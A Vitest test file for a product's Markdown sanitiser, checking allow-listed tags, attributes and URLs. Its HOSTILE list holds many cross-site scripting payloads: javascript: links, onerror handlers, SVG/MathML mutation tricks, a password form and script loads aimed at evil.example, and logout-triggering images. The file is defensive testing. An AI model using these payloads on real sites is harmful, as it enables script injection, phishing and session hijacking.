import { renderToStaticMarkup } from 'react-dom/server';
import rehypeSanitize from 'rehype-sanitize';
import { describe, expect, test } from 'vitest';
import { allowList } from './allow-list.ts';
import { partsOf } from './safe-tree.ts';
import { SafeParts } from './safe-markdown.tsx';

/** The product's own button next to a code block. */
const COPY_BUTTON = /<button[^>]*aria-label="Copy code"[^>]*>.*?<\/button>/gs;
const render = (text: string) =>
  renderToStaticMarkup(<SafeParts parts={partsOf(text)} />).replaceAll(COPY_BUTTON, '');

// Repeated on purpose: a tag added to the allow-list must be justified here as well.
const TAGS = new Set(
  `a abbr b blockquote br caption code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img input ins kbd li
   link mark ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var wbr`.split(
    /\s+/,
  ),
);
const ATTRIBUTES = new Set(
  `align alt aria-describedby aria-label checked class colspan data-footnote-backref data-footnote-ref data-footnotes data-level
   dir disabled height href id lang loading open readonly rel reversed role rowspan src start style tabindex target title type width`.split(
    /\s+/,
  ),
);
const OWN_CLASSES =
  /^((heading|heading-anchor|scroll-box|code-block|sr-only|footnotes|contains-task-list|task-list-item|language-[\w+#.-]+)( |$))*$/;

/** Every tag of the output with its attributes; React closes and escapes all of them. */
const tagsOf = (html: string) =>
  [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/g)].map(
    ([, tag, attributes = '']) => ({
      tag: String(tag),
      attributes: Object.fromEntries(
        [...attributes.matchAll(/([\w-]+)(?:="([^"]*)")?/g)].map(([, name, value]) => [
          String(name),
          value ?? '',
        ]),
      ),
    }),
  );

/** Patterns for attribute values; attributes without a pattern may contain any text. */
const VALUES: Record<string, RegExp> = {
  style: /^((width|height):\d{1,4}px;?)*$|^text-align:(left|center|right)$/,
  id: /^doc-/,
  class: OWN_CLASSES,
  href: /^(#|\/(?![/\\])|https?:|mailto:)/,
  src: /^(\/objects\/|data:image\/(png|jpeg|gif|webp)[;,])/,
};

/** Everything in the output that a document must not produce. */
function dangersIn(html: string): string[] {
  const dangers = html.match(/<[!/?]?(?:[^a-z/]|$)/g)?.map((found) => `not read: ${found}`) ?? [];
  for (const { tag, attributes } of tagsOf(html)) {
    const isForeignTab = 'target' in attributes && attributes['rel'] !== 'noopener noreferrer';
    // React preloads images with its own link element.
    const isForeignLink = tag === 'link' && attributes['rel'] !== 'preload';
    if (!TAGS.has(tag) || isForeignTab || isForeignLink) dangers.push(tag);
    for (const [name, value] of Object.entries(attributes)) {
      const isFine = ATTRIBUTES.has(name.toLowerCase()) && (VALUES[name]?.test(value) ?? true);
      if (!isFine) dangers.push(`${tag} ${name}="${value}"`);
    }
  }
  return dangers;
}

const HOSTILE = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](\u0001javascript:alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](file:///etc/passwd)',
  '[a](blob:https://x.example/1)',
  '[a][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[a](//evil.example)',
  '[a](/\\evil.example)',
  '[a](\\\\evil.example)',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="&#1;javascript:alert(1)">a</a>',
  '<a href="/&#9;/evil.example">a</a>',
  '<a href="https://x.example" target="_top" onclick="alert(1)" ping="https://evil.example">a</a>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" style="position:fixed;inset:0">',
  '<img src="javascript:alert(1)">',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
  '![a](data:text/html;base64,PHNjcmlwdD4=)',
  '![a](https://evil.example/pixel.gif)',
  '![a](//evil.example/pixel.gif)',
  '![a](/api/logout)',
  '![a](/objects/../api/logout)',
  '![a](/objects/%2e%2e/api/logout)',
  '<img srcset="https://evil.example/x.png 1x" src="/objects/1">',
  '<picture><source srcset="https://evil.example/x.png"><img src="/objects/1"></picture>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.example">',
  '<form action="https://evil.example"><input name="password" type="password"><button>Sign in</button></form>',
  '<input type="text" value="x" autofocus onfocus="alert(1)">',
  '<input type="image" src="https://evil.example/x.png">',
  '<textarea autofocus onfocus=alert(1)></textarea><select><option>x</option></select>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0;z-index:99;background:url(https://evil.example)">x</div>',
  '<div class="fixed inset-0 z-50 bg-surface">Sign in again</div>',
  '<code class="language-x fixed inset-0">x</code>',
  '```x" onmouseover="alert(1)\ncode\n```',
  '<form id="currentUser"></form><a id="root" name="getElementById">x</a><img name="body" src="/objects/1">',
  '# <a id="main">x</a>',
  '<body onload=alert(1)><details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src="https://evil.example/x.mp4" onerror="alert(1)" autoplay></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee><blink>x</blink>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<x-y onclick=alert(1) is="x">z</x-y>',
  '<a href="#" onmouseover=alert(1)//',
  '<div contenteditable tabindex=1 accesskey=x draggable=true slot=x itemscope>x</div>',
  '<!-- width=300px;position:fixed height=auto -->\n![a](/objects/1)',
  '<img src="/objects/1" width="100%;position:fixed" height="9e9">',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '<table><tr><td align="right;position:fixed;inset:0">x</td></tr></table>',
  '[^1]\n\n[^1]: <script>alert(1)</script>[a](javascript:alert(1))',
  '> - <b onclick=alert(1)>x</b>\n>   <iframe src=javascript:alert(1)>',
];

describe('ED-11 threat 58 threat 61 threat 62 threat 64 nothing dangerous of a document reaches the page', () => {
  test.each(HOSTILE)('%j', (text) => {
    expect(dangersIn(render(text))).toEqual([]);
  });

  test.each([
    '<script>',
    '<a href="javascript:alert(1)">',
    '<a href="//evil.example">',
    '<img src="/api/logout">',
    '<b onclick="x">',
    '<p style="position:fixed">',
    '<p class="heading fixed">',
    '<p id="root">',
    '<a href="/" target="_blank">',
    '<link rel="stylesheet">',
    '<!-- x -->',
  ])('the check itself detects %s', (html) => {
    expect(dangersIn(html)).not.toEqual([]);
  });
});

/** The allow-list alone, without checkAddresses. */
const sanitised = (tagName: string, properties: Record<string, unknown>) => {
  const tree = { type: 'root', children: [{ type: 'element', tagName, properties, children: [] }] };
  const { children } = rehypeSanitize(allowList)(tree as never) as unknown as {
    children: { tagName: string; properties: Record<string, unknown> }[];
  };
  return children[0];
};

describe('ED-11 the allow-list works on its own', () => {
  test.each([
    'script',
    'style',
    'iframe',
    'form',
    'object',
    'svg',
    'meta',
    'base',
    'link',
    'button',
    'video',
    'template',
  ])('no %s', (tag) => {
    expect(sanitised(tag, {})).toBeUndefined();
  });

  test('removes elements that readers must not see with their text', () => {
    expect(render('a<style>body{}</style>b<script>alert(1)</script>c<iframe>x</iframe>d')).toBe(
      '<p>abcd</p>',
    );
  });

  test('parts of a table stay inside a table', () => {
    expect(sanitised('td', {})).toBeUndefined();
  });

  test.each([
    ['a', { href: 'javascript:alert(1)' }],
    ['a', { href: 'data:text/html,x' }],
    ['a', { href: 'ftp://x.example' }],
    ['img', { src: 'javascript:alert(1)' }],
    ['p', { style: 'position:fixed' }],
    ['p', { className: ['fixed'] }],
    ['code', { className: ['fixed'] }],
    ['b', { onClick: 'alert(1)' }],
    ['td', { align: 'right;position:fixed' }],
    ['a', { name: 'root' }],
    ['img', { srcSet: 'https://evil.example' }],
  ])('%s without %j', (tag, properties) => {
    expect(Object.values(sanitised(tag, properties)?.properties ?? {}).flat()).toEqual([]);
  });

  test('ids get a prefix, inputs are ticked boxes', () => {
    expect(sanitised('p', { id: 'root' })?.properties).toEqual({ id: 'doc-root' });
    expect(sanitised('input', { type: 'password' })?.properties).toEqual({
      type: 'checkbox',
      disabled: true,
    });
  });
});

describe('ED-11 allowed contents of a document', () => {
  test('GitHub-flavoured Markdown: tables, task lists, strike-through, footnotes, code', () => {
    const html = render(
      '| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n~~old~~ note[^1]\n\n[^1]: The note.\n\n```sh\nls\n```',
    );
    expect(html).toContain('<td style="text-align:right">2</td>');
    expect(html).toMatch(/<input type="checkbox"[^>]* checked=""/);
    expect(html).toContain('<del>old</del>');
    expect(html).toContain('<code class="language-sh">ls\n</code>');
    expect(html).toMatch(/href="#fn-1"[\s\S]*id="doc-fn-1"/);
  });

  test('N6 one tilde is a letter', () => {
    expect(render('Ports 70~80 and 90~95')).toBe('<p>Ports 70~80 and 90~95</p>');
  });

  test('links to other sites open a new tab, links inside the product do not', () => {
    expect(render('[a](https://x.example/b)')).toContain('target="_blank" rel="noopener noreferrer"');
    expect(render('[a](/knowledge-base?doc=1#b)')).toContain('<a href="/knowledge-base?doc=1#b">a</a>');
    expect(render('[a](other.md)')).toContain('<a>a</a>');
    const person = '/team?person=0b9d2b9e-1111-4222-8333-444455556666';
    expect(render(`[@Ann](${person})`)).toContain('<span class="mention">@Ann</span>');
  });

  test('shows own and embedded images with their alternative text', () => {
    expect(render('![Lag](/objects/1)')).toMatch(/<img (?=[^>]*src="\/objects\/1")(?=[^>]*alt="Lag")/);
    expect(render('![Lag](data:image/png;base64,iVBOR)')).toContain('src="data:image/png;base64,iVBOR"');
  });

  test('an image of another site becomes a link that names the site', () => {
    const html = render('![Lag](https://x.example/a.png)');
    expect(html).toContain('href="https://x.example/a.png"');
    expect(html).toContain('Image: Lag (https://x.example/a.png)');
    const linked = render('[![Build](https://x.example/a.png)](https://ci.example)');
    expect(linked).toMatch(/href="https:\/\/ci\.example"[^>]*>Build</);
  });

  test.each([
    ['<!-- width=300px height=auto -->\n![a](/objects/1)', 'width:300px'],
    ['<!-- width=300 height=200 -->\n![a](/objects/1)', 'width:300px;height:200px'],
    ['text\n<!-- width=300 height=200 -->\n![a](/objects/1)', 'width:300px;height:200px'],
    ['<!-- width=300 height=200 -->\n[![a](/objects/1)](/objects/1)', 'width:300px;height:200px'],
  ])('ED-07 the comment before an image sets its size: %j', (text, style) => {
    expect(render(text)).toContain(`style="${style}"`);
  });

  test('ED-07 a size cannot make the page endless', () => {
    const huge = render('<!-- width=9999 height=9999 -->\n![a](/objects/1)');
    expect(huge).toContain('width:2000px;height:2000px');
    expect(render('<!-- width=99999 height=auto -->\n![a](/objects/1)')).not.toContain('width:');
  });

  test('ED-07 a size applies to the next image only', () => {
    expect(render('<!-- width=300 height=200 -->\ntext ![a](/objects/1)')).not.toContain('style="width');
    const two = render('<!-- width=300 height=200 -->\n![a](/objects/1) ![b](/objects/2)');
    expect(two.match(/width:300px/g)).toHaveLength(1);
  });

  test('each heading has a unique id for links', () => {
    const html = render('# Set up\n\n## Fence the `old` primary!\n\n## Set up\n\n<a name="Old-Place"></a>');
    expect(html).toContain('id="doc-set-up"');
    expect(html).toContain('id="doc-fence-the-old-primary"');
    expect(html).toContain('id="doc-set-up-1"');
    expect(html).toContain('id="doc-Old-Place"');
    expect(html).toContain('href="#set-up-1"');
  });

  test('renders a document of 200 KB completely', () => {
    const section =
      '## Step\n\nStop the `pool`, then [read](/knowledge-base?doc=1).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n';
    const count = Math.ceil(200_000 / section.length);
    expect(render(section.repeat(count)).match(/<h3/g)).toHaveLength(count);
  });
});

describe('KB-05 shows text that only looks like a tag as it is written', () => {
  test.each([
    ['in a sentence', 'Run ssh ops@<jump-host> -p <PORT> now', 'ops@&lt;jump-host&gt; -p &lt;PORT&gt; now'],
    ['in a generic type', 'A Map<String, List<Int>> of it', 'A Map&lt;String, List&lt;Int&gt;&gt; of it'],
    ['in a heading', '## Reach <ip>', 'Reach &lt;ip&gt;'],
    ['in a cell', '| Host |\n|---|\n| <host> |', '&lt;host&gt;</td>'],
    ['in bold', '**to <name>**', '<strong>to &lt;name&gt;</strong>'],
    [
      'an element of HTML that is neither shown nor closed',
      'Write to <address>.',
      'Write to &lt;address&gt;.',
    ],
    ['beside real markup', 'a <b>bold <x-y></b> c', '<b>bold &lt;x-y&gt;</b>'],
  ])('%s', (_, text, shown) => expect(render(text)).toContain(shown));

  test('XML becomes a code block with its own lines', () => {
    const html = render('<settings>\n  <title>a</title>\n  <add key="b &amp; c"/>\n</settings>\n\nafter');
    const words = html.replace(/<[^>]*>/g, '');
    expect(words).toContain(
      '&lt;settings&gt;\n  &lt;title&gt;a&lt;/title&gt;\n  &lt;add key=&quot;b &amp;amp; c&quot;/&gt;\n&lt;/settings&gt;',
    );
    expect(html).toContain('<p>after</p>');
  });

  test('HTML stays HTML, without unsafe parts', () => {
    expect(render('<details><summary>More</summary>\n\ninside\n\n</details>')).toContain(
      '<summary>More</summary>',
    );
    expect(render('<center>mid</center>')).toContain('mid');
    expect(render('<center>mid</center>')).not.toContain('center');
    for (const evil of [
      '<script>bad()</script>',
      '<foo><script>bad()</script></foo>',
      'x <iframe src="https://x.example"></iframe>',
      '<svg><path onload="bad()"/></svg>',
    ])
      expect(dangersIn(render(evil))).toEqual([]);
  });
});
